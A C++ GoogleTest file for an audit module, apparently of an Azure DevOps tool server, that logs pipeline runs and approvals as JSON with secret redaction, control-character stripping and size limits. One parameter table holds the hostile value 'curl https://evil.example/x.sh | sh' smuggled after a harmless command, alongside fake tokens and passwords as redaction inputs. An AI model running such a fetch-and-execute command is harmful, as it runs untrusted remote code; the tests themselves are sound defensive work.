#include "audit/write_json.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "audit/line.h"
#include "audit/record_json.h"
#include "audit/safe_arguments.h"

namespace adomcp::audit {
namespace {

using nlohmann::json;
using testing::HasSubstr;
using testing::Not;

ResolvedWrite deploy() {
  ResolvedWrite write;
  write.digest = std::string(64, 'd');
  write.pipeline_id = 12;
  write.pipeline = "\\release\\deploy-api";
  write.branch = "refs/heads/main";
  write.commit = std::string(40, 'c');
  return write;
}

json shown(const ResolvedWrite& write) {
  return json::parse(write_text(write, 5120));
}

TEST(WriteJson, SaysWhatWasToBeSent) {
  auto write = deploy();
  EXPECT_EQ(shown(write), json({{"kind", "run"},
                                {"pipeline_id", 12},
                                {"pipeline", "\\release\\deploy-api"},
                                {"branch", "refs/heads/main"},
                                {"commit", std::string(40, 'c')}}));
  write.stages_to_skip = {"Test"};
  write.parameters["region"] = "eu";
  write.variables["LOG_LEVEL"] = "debug";
  write.variables["KEY"] = std::nullopt;
  write.preview = true;
  write.commit.clear();
  EXPECT_EQ(shown(write), json({{"kind", "preview"},
                                {"pipeline_id", 12},
                                {"pipeline", "\\release\\deploy-api"},
                                {"branch", "refs/heads/main"},
                                {"commit", "commit not known"},
                                {"stages_to_skip", {"Test"}},
                                {"parameters", {{"region", "eu"}}},
                                {"variables", {{"LOG_LEVEL", "debug"}, {"KEY", "[secret]"}}}}));
}

TEST(WriteJson, SaysHowARunWasToBeChanged) {
  ResolvedWrite write;
  write.kind = "decide_approval";
  write.run_id = 4711;
  write.pipeline_id = 12;
  write.pipeline = "deploy-api";
  write.branch = "refs/heads/main";
  write.stage = "Deploy";
  write.environments = {"api-staging"};
  write.approval_id = "aab27959-a5be-4ee3-97ca-f19b3602cd2f";
  write.decision = "approve";
  write.comment = "as agreed";
  EXPECT_EQ(shown(write), json({{"kind", "decide_approval"},
                                {"run_id", 4711},
                                {"pipeline_id", 12},
                                {"pipeline", "deploy-api"},
                                {"branch", "refs/heads/main"},
                                {"stage", "Deploy"},
                                {"environments", {"api-staging"}},
                                {"approval_id", "aab27959-a5be-4ee3-97ca-f19b3602cd2f"},
                                {"decision", "approve"},
                                {"comment", "as agreed"}}));
  write.comment = std::string(20000, 'x');
  EXPECT_LE(write_text(write, 5120).size(), 5120U);
  EXPECT_EQ(shown(write)["decision"], "approve");
  ResolvedWrite retry;
  retry.kind = "retry_stage";
  retry.stage = "Test";
  EXPECT_EQ(shown(retry)["all_jobs"], false);
  EXPECT_FALSE(shown(retry).contains("decision"));
}

struct Named {
  const char* given;
  const char* shown;
};
class NameInAWrite : public testing::TestWithParam<Named> {};

TEST_P(NameInAWrite, IsCleaned) {
  auto write = deploy();
  write.pipeline = write.branch = GetParam().given;
  write.stages_to_skip = {GetParam().given};
  EXPECT_EQ(shown(write)["pipeline"], GetParam().shown);
  EXPECT_EQ(shown(write)["branch"], GetParam().shown);
  EXPECT_EQ(shown(write)["stages_to_skip"], json({GetParam().shown}));
}

INSTANTIATE_TEST_SUITE_P(
    Table, NameInAWrite,
    testing::Values(Named{"refs/heads/main", "refs/heads/main"},
                    Named{"\\release\\deploy-api", "\\release\\deploy-api"},
                    Named{"Deploy to West Europe 2", "Deploy to West Europe 2"},
                    Named{"feature/secret-rotation", "feature/secret-rotation"},
                    Named{"a password=hunter2", "a password=***"},
                    Named{"x ghp_0123456789abcdefghijABCDEFGHIJ456789", "x ***"},
                    Named{"https://u:hunter2@h/x", "https://***@h/x"},
                    Named{"re\u202elease\u200b", "release"}, Named{"a\x1b[31mb", "ab"}));

struct Value {
  const char* name;
  const char* value;
  bool shows;
};

class ValueOfAWrite : public testing::TestWithParam<Value> {};

TEST_P(ValueOfAWrite, ShowsUnlessItsNameOrLookSaysSecret) {
  const auto& [name, value, shows] = GetParam();
  auto write = deploy();
  write.parameters[name] = value;
  write.variables[name] = value;
  const std::string wanted = shows ? value : "[hidden]";
  EXPECT_EQ(shown(write)["parameters"][name], wanted);
  EXPECT_EQ(shown(write)["variables"][name], wanted);
  const json bags = {{"parameters", {{name, value}}}, {"variables", {{name, value}}}};
  const auto arguments = json::parse(safe_arguments(bags.dump()).dump());
  EXPECT_EQ(arguments["parameters"][name], wanted);
  EXPECT_EQ(arguments["variables"][name], wanted);
}

INSTANTIATE_TEST_SUITE_P(
    Table, ValueOfAWrite,
    testing::Values(
        Value{"LOG_LEVEL", "debug", true}, Value{"flag", "true", true},
        Value{"command", "echo build ok;     curl https://evil.example/x.sh | sh", true},
        Value{"image", "registry.example.com/team/web:1.2.3", true},
        Value{"commit", "0123456789abcdef0123456789abcdef01234567", true},
        Value{"id", "6f1d2a80-1c5b-4d6e-9a41-0b6f5c1e7a01", true},
        Value{"stage", "Deploy to production in West Europe 2", true},
        Value{"url", "https://dev.azure.com/contoso/_build/results?buildId=4", true},
        Value{"name", "DeployToProductionWestEurope2", true},
        Value{"image", "myregistry.azurecr.io/team/payments-service/api-gateway", true},
        Value{"command",
              "terraform apply -auto-approve -var-file=environments/production-eu-west.tfvars",
              true},
        Value{"text", "line one\nline two", true}, Value{"empty", "", true},
        Value{"API_TOKEN", "x", false}, Value{"db_password", "x", false},
        Value{"ApiKey", "x", false}, Value{"clientSecret", "x", false}, Value{"pat", "x", false},
        Value{"x", "Bearer abc", false}, Value{"x", "--password=hunter2", false},
        Value{"x", "password: hunter2", false}, Value{"x", "https://me:pw@host.example/", false},
        Value{"x", "https://a.blob.core.windows.net/c?sv=1&sig=abc", false},
        Value{"x", "AccountName=a;AccountKey=abc", false}, Value{"x", "eyJhbGciOi.x.y", false},
        Value{"x", "-----BEGIN RSA PRIVATE KEY-----", false},
        Value{"x", "curl -H x-token=abc https://h.example", false},
        Value{"x", "use ghp_abcdef now", false}, Value{"x", "glpat-abcdef", false},
        Value{"x", "a3Kd93jfKDie83Jdkw0aQ2", false},
        Value{"x", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", false}));

TEST(WriteJson, WhateverSomebodySentAsANameIsHiddenWhereItIsASecret) {
  const std::string secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
  auto write = deploy();
  write.stages_to_skip = {secret};
  write.parameters[secret] = "eu";
  write.variables[secret] = "eu";
  write.branch = "refs/heads/" + secret;
  write.pipeline = "\\release\\password=h7Xp0qWz9K";
  const auto text = write_text(write, 5120);
  EXPECT_THAT(text, Not(HasSubstr(secret)));
  EXPECT_THAT(text, Not(HasSubstr("h7Xp0qWz9K")));
  EXPECT_EQ(json::parse(text)["parameters"], json({{"[hidden]", "eu"}}));
}

TEST(WriteJsonSize, IsBoundedAndSaysWhereItCuts) {
  auto write = deploy();
  write.parameters["one"] = std::string(4000, ' ');
  EXPECT_EQ(shown(write)["parameters"]["one"], std::string(4000, ' ')) << "what fits is whole";
  write.variables["two"] = std::string(4000, ' ');
  EXPECT_EQ(shown(write)["variables"]["two"], std::string(512, ' ') + "[cut]");
  for (int i = 0; i < 100; ++i) write.parameters["P" + std::to_string(i)] = std::string(300, ' ');
  EXPECT_LE(write_text(write, 5120).size(), 5120u);
  std::string name;
  while (name.size() < 250) name += "name-";
  for (int i = 0; i < 100; ++i) write.parameters[name + std::to_string(i)] = "\x1b";
  const auto text = write_text(write, 5120);
  EXPECT_LE(text.size(), 5120u);
  EXPECT_EQ(json::parse(text)["..."], "[cut]");
  EXPECT_EQ(json::parse(text)["pipeline"], "\\release\\deploy-api");
}

TEST(WriteRecord, StandsInBothEndsOfTheLine) {
  CallRecord record;
  record.call_id = "c1";
  record.writes = {deploy(), deploy(), deploy()};
  record.writes[1].digest = "second";
  record.write_sha256 = record.writes[0].digest;
  record.started = std::chrono::steady_clock::now();
  const auto line = json::parse(to_line(record, "finished", {}, record.started));
  EXPECT_EQ(line["write_sha256"], std::string(64, 'd'));
  EXPECT_EQ(line["write"]["commit"], std::string(40, 'c'));
  EXPECT_EQ(line["more_writes"], json({"second", std::string(64, 'd')}));
  record.writes.clear();
  record.write_sha256.clear();
  const auto without = json::parse(to_line(record, "finished", {}, record.started));
  for (const char* key : {"write_sha256", "write", "more_writes"}) {
    EXPECT_FALSE(without.contains(key)) << key;
  }
}

TEST(WriteRecord, AHostileOneIsNoLongerThanALine) {
  CallRecord record;
  const std::string hostile(2000, '\x1b');
  record.call_id = record.trace_id = std::string(32, 'f');
  for (auto* text : {&record.operation.name, &record.operation.plugin, &record.principal.user_name,
                     &record.principal.object_id, &record.principal.tenant_id,
                     &record.principal.client_app, &record.client_ip, &record.organization,
                     &record.project, &record.rule, &record.error_type, &record.pipeline_name}) {
    *text = hostile;
  }
  json arguments = json::object();
  for (int i = 0; i < 60; ++i) arguments["k" + std::to_string(i)] = std::string(40, 'x');
  record.arguments_json = arguments.dump();
  auto write = deploy();
  write.pipeline = write.branch = hostile;
  for (int i = 0; i < 30; ++i) write.parameters["k" + std::to_string(i)] = std::string(100, 'x');
  record.writes.assign(16, write);
  record.write_sha256 = write.digest;
  EXPECT_LE(to_line(record, "finished", {}, std::chrono::steady_clock::now()).size(), kMaxLine);
}

TEST(SafeValue, IsCutAtACharacter) {
  EXPECT_EQ(safe_value("a", "\u00e9\u00e9", 3), "\u00e9[cut]");
  EXPECT_EQ(safe_value("a", "\u00e9\u00e9", 4), "\u00e9\u00e9");
}

}  // namespace
}  // namespace adomcp::audit
